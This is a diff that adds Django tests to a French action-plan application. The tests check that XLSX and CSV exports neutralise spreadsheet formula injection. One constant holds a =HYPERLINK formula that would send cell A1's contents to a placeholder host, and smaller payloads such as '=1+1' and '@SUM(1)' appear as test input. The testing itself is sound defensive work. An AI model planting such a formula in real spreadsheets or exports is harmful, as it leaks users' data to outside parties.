@@ -142,3 +142,61 @@ def test_view_refused_line_with_new_funder_leaves_no_organisation(client_for, do
     assert response.status_code == 400
     assert not Organisation.objects.filter(nom="Mécène inconnu").exists()
     assert not fiche.financements.exists()
+
+
+# 3. No formula injection in the exports -----------------------------------------------------
+
+INJECTION = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'
+
+
+def test_xlsx_export_writes_text_never_formulas_and_reimports_identically(client_for, dossier):
+    import io
+    import zipfile
+
+    from openpyxl import load_workbook
+
+    from pvd.actions.importer import import_plan
+    from pvd.actions.models import FicheAction
+    from pvd.actions.tests.factories import LigneFactory, OrganisationFactory
+
+    fiche = FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", description="@SUM(1)")
+    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="=1+1"), montant=Decimal("5"))
+    client = client_for(dossier, "chef_de_projet")
+    for name in ("plan_xlsx", "crte_export", "maquette_xlsx"):
+        if name == "crte_export":
+            fiche.inscrite_crte = True
+            fiche.save()
+        content = client.get(url(name, dossier)).content
+        with zipfile.ZipFile(io.BytesIO(content)) as archive:
+            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
+        # Only the maquette's total rows are formulas (SUM), never a user's text.
+        assert all(f.startswith("SUM(") for xml in sheets for f in _formulas(xml)), name
+    content = client.get(url("plan_xlsx", dossier)).content
+    workbook = load_workbook(io.BytesIO(content))
+    cell = workbook["Fiches"]["B2"]
+    assert cell.value == INJECTION and cell.data_type == "s"
+    other = type(dossier).objects.get(pk=dossier.pk)
+    FicheAction.objects.all().delete()
+    fiches = import_plan(dossier=other, content=content, by=None)
+    assert [f.titre for f in fiches] == [INJECTION]
+    assert fiches[0].pilote == "+33 6 00" and fiches[0].description == "@SUM(1)"
+    assert fiches[0].financements.get().financeur.nom == "=1+1"
+
+
+def _formulas(xml: str) -> list[str]:
+    import re
+
+    return re.findall(r"<f>(.*?)</f>", xml)
+
+
+def test_csv_export_neutralises_formulas(client_for, dossier):
+    import csv
+    import io
+
+    FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", localisation="-1", cout_ht=Decimal("-0"))
+    raw = client_for(dossier, "lecteur").get(url("plan_csv", dossier)).content.decode("utf-8-sig")
+    header, row = list(csv.reader(io.StringIO(raw), delimiter=";"))
+    values = dict(zip(header, row, strict=True))
+    assert values["Titre"] == "'" + INJECTION
+    assert values["Pilote"] == "'+33 6 00"
+    assert not any(value[:1] in "=+@" for value in row if value)
